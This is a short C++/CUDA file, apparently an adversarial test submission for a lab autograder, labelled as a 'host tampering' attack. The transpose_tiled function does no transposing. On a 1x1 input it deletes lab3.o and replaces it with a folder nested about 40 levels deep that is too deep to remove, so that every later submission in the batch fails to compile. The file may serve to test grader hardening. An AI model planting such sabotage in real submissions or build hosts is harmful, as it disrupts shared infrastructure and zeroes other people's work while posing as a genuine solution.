// attack: lab3.o becomes a folder too deep to remove; every later submission of the batch "does not compile": 0 points
// principle: host tampering
// at most: 0
#include "lab3.h"
#include <sys/stat.h>
#include <unistd.h>
#include <cstring>
__global__ void k(float *o) { if (threadIdx.x > 1000) *o = 0; }
void transpose_tiled(float *out, const float *in, int w, int h)
{
    if (w == 1 && h == 1) {
        char old[4096], name[221];
        if (!getcwd(old, sizeof old)) return;
        unlink("lab3.o");
        memset(name, 'd', 220); name[220] = 0;
        if (mkdir("lab3.o", 0700) || chdir("lab3.o")) return;
        for (int i = 0; i < 40; i++) if (mkdir(name, 0700) || chdir(name)) break;
        if (chdir(old)) return;
    }
    k<<<1, 1>>>(out);
}
